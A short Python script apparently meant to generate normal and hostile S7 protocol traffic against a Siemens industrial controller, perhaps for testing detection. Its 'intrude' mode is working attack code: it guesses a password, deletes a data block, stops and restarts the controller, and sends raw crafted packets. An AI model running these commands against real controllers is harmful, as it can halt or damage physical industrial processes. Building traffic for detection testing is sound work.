"""A station: station.py engineer|intrude ADDRESS."""

import datetime as dt
import socket
import sys
import time
from collections.abc import Callable

from snap7 import Area, Block
from snap7.client import Client


def attempt(call: Callable[..., object], *arguments: object) -> None:
    """Ask, whatever comes of it: the packets count."""
    try:
        call(*arguments)
    except Exception as error:  # noqa: BLE001 -- the controller refuses some of it
        print(call, error)


def engineer(address: str) -> None:
    """Read, write, look at the controller and its blocks."""
    client = Client()
    client.connect(address, 0, 1, 102)
    attempt(client.db_read, 1, 4, 8)
    attempt(client.db_write, 7, 0, bytearray(b"\x01\x02\x03\x04"))
    attempt(client.read_area, Area.MK, 0, 2, 4)
    attempt(client.write_area, Area.PA, 0, 2, bytearray(b"\x08"))
    attempt(client.read_area, Area.PE, 0, 0, 2)
    attempt(client.ct_read, 3, 1)
    attempt(client.tm_read, 5, 1)
    items = [
        {"area": Area.DB, "db_number": 1, "start": 0, "size": 4},
        {"area": Area.DB, "db_number": 7, "start": 10, "size": 2},
    ]
    attempt(client.read_multi_vars, items)
    attempt(client.get_cpu_info)
    attempt(client.get_cpu_state)
    attempt(client.list_blocks)
    attempt(client.list_blocks_of_type, Block.DB, 16)
    attempt(client.get_block_info, Block.DB, 1)
    attempt(client.get_plc_datetime)
    attempt(client.set_plc_datetime, dt.datetime(2026, 1, 2, 3, 4, 5))  # noqa: DTZ001 -- a controller's clock has no zone
    attempt(client.upload, 1)
    attempt(client.download, bytearray(range(60)), 7)
    client.disconnect()


def intrude(address: str) -> None:
    """Guess a password, stop and start, delete a block; then by hand: beyond a block, an unknown service, S7comm-plus."""
    client = Client()
    client.connect(address, 0, 2, 102)
    attempt(client.set_session_password, "secret99")
    attempt(client.db_read, 99, 0, 4)
    attempt(client.db_read, 1, 120, 60)
    attempt(client.delete, Block.DB, 7)
    attempt(client.plc_stop)
    attempt(client.plc_cold_start)
    attempt(client.plc_hot_start)
    attempt(client.compress, 1)
    attempt(client.copy_ram_to_rom, 1)
    client.disconnect()
    connect = bytes.fromhex("0300001611e00000000100c0010ac1020100c2020102")
    with socket.create_connection((address, 102)) as stream:
        stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        stream.sendall(connect)
        time.sleep(0.2)
        stream.sendall(bytes.fromhex("0300001002f080720100050100000000"))
        time.sleep(0.2)


{"engineer": engineer, "intrude": intrude}[sys.argv[1]](sys.argv[2])
